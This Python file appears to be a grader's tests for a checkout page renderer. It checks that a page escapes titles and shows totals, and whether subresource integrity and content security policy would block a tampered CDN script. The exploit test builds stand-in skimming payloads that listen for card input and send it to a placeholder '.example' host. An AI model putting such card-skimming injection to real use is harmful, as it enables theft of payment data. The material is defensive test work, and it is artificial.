import hashlib
import html as markup
import io
import re
import urllib.request
from base64 import b64encode
from decimal import Decimal
from urllib.parse import urljoin, urlsplit

GENUINE = b"mountCardFields()"
SHOP = "https://shop.example.com"


def serve(script):
    """A content network that serves this for every version of the library, and the shop's own server with the file that was reviewed."""

    def files(address):
        if address == f"{SHOP}/assets/card-fields-4.2.1.min.js":
            return GENUINE
        return script if address.startswith("https://cdn.example.net/card-fields@4") else None

    urllib.request.urlopen = lambda address, timeout=None: io.BytesIO(files(address))
    return files


def load(headers, html, files):
    """What a browser would run: it honours `integrity` and the allowed hosts of a content security policy."""
    policy = re.search(r"script-src ([^;]*)", headers.get("Content-Security-Policy", ""))
    run = []
    for attributes in re.findall(r"<script([^>]*)></script>", html):
        values = dict(re.findall(r'\b(\w+)="([^"]*)"', attributes))
        address = urljoin(f"{SHOP}/orders/o-17", values["src"])
        script = files(address)
        if script is None:
            continue
        origin = "{0.scheme}://{0.netloc}".format(urlsplit(address))
        if policy and ("'self'" if origin == SHOP else origin) not in policy[1].split():
            continue
        digest = "sha384-" + b64encode(hashlib.sha384(script).digest()).decode()
        if "integrity" in values and (values["integrity"] != digest or origin != SHOP and "crossorigin" not in values):
            continue
        run.append(script)
    return run


def draw(code, vary):
    """Another order each time, so that no page can be the one that a run has shown."""
    title, tea, pot = vary.remark(), vary.number(100, 99_999), vary.number(100, 99_999)
    lines = [code.Line(title, Decimal(tea) / 100), code.Line(vary.word(), Decimal(pot) / 100)]
    return code.Order(f"o-{vary.text(6)}", "EUR", lines), title, f"{(tea + pot) / 100:.2f} EUR"


def shown(html):
    """The text of the page, as the browser shows it."""
    return markup.unescape(re.sub(r"<[^>]*>", " ", html)).replace(",", "")


def works(code, vary):
    files = serve(GENUINE)
    order, title, total = draw(code, vary)
    headers, html = code.render_checkout(order)
    assert title.replace(",", "") in shown(html), f"The title of a product, {title}, should be on the page with its signs escaped."
    assert total in shown(html), f"The sum, {total}, should be on the page."
    assert f"/orders/{order.id}/payment" in html, "The form should pay the order that is shown."
    assert load(headers, html, files) == [GENUINE], "The browser should run the library that the shop has chosen."


def exploit(code, vary):
    """The file on the content network was replaced by one that also sends card numbers away."""
    for more in vary.shuffle([f";addEventListener('input', {vary.word()})", f";copyTo('https://{vary.word()}.example')"]):
        hostile = GENUINE + more.encode()
        files = serve(hostile)
        if hostile in load(*code.render_checkout(draw(code, vary)[0]), files):
            got = "the browser runs it on the page on which people type their card numbers"
            return {"sent": f"another file on the content network: {hostile.decode()}", "got": got}
    return False
